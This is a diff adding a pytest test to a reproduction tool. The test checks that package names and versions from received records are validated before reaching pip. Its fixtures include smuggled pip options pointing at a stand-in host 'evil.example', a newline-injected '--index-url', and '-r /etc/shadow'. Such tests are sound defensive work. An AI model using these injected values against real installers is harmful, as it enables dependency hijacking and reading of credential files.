@@ -382,3 +382,27 @@ def test_without_bubblewrap_reproduce_refuses_in_one_line_or_passes_unsandboxed_
     monkeypatch.setattr(reproduce, "_host_cpu", lambda: CPU)
     cli.main([*argv, "--unsandboxed"])
     assert len(started) == 1 and started[0][3] == "matrix" and "--unsandboxed" in started[0]
+
+
+@pytest.mark.parametrize(
+    "packages, said",
+    [
+        ({"torch --extra-index-url http://evil.example/simple": "2.13.0"}, "no PEP 508 project name"),
+        ({"torch": "2.13.0\n--index-url http://evil.example"}, "no PEP 440 version"),
+        ({"torch": "latest"}, "no PEP 440 version"),
+        ({"-r /etc/shadow": "1"}, "no PEP 508 project name"),
+        ({"torch": 2}, "no PEP 440 version"),
+    ],
+)
+def test_a_received_records_packages_reach_pip_only_as_names_and_versions(tmp_path, packages, said):
+    """Issue 68 item 3: a record's env.packages name carrying `--extra-index-url …` went unchecked into
+    the constraints reproduce hands pip (pip queried the drill's index, as root). Each name must be a
+    PEP 508 project name and each version a PEP 440 one, checked when the cells are chosen."""
+    hostile = _run(env={**ENV, "packages": {**ENV["packages"], **packages}})
+    latest = {**_published(), hostile.job: hostile}
+    with pytest.raises(UserError) as caught:
+        reproduce.select(latest, [hostile.job], tmp_path / "results.jsonl")
+    message = str(caught.value)
+    assert said in message and "nothing is handed to pip" in message and "\n" not in message, message
+    assert reproduce.package_problem("iree-base-compiler", "3.9.0rc20251118") is None
+    assert reproduce.package_problem("torch", "2.13.0+cpu") is None
